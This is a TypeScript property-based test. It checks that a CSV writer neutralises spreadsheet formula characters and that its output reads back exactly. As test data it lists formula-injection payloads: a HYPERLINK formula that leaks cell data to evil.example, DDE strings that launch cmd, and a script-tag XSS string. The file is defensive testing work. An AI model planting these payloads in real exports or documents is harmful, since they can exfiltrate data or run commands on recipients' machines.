// The CSV writer and reader as inverses under any text: whatever a summary or target holds
// (formulas, quotes, commas, line breaks, a ' before a formula), the written cell never
// starts with a character a spreadsheet would execute, the file stays valid RFC 4180, and
// the importer reads back exactly the text that was written.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvDocument } from "./csv.ts";
import { parseCsv, unneutraliseFormula } from "./csv-parse.ts";

const hostile = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "\"", ",", "\n", "\r\n", "<script>"), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "'=already guarded", "<script>alert(1)</script>", 'say "hi", then\r\nleave'),
);

describe("CSV cells under hostile text", () => {
  it("never starts a cell with a formula character, and reads back exactly (1,000 random files)", () => {
    fc.assert(fc.property(fc.array(fc.array(hostile, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }), (rows) => {
      for (const r of rows) for (const v of r) expect(csvCell(v).replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
      const parsed = parseCsv(csvDocument(["a", "b", "c"], rows));
      expect(parsed.slice(1).map((rec) => rec.fields.map(unneutraliseFormula))).toEqual(rows);
    }), { numRuns: 1_000 });
  });
});
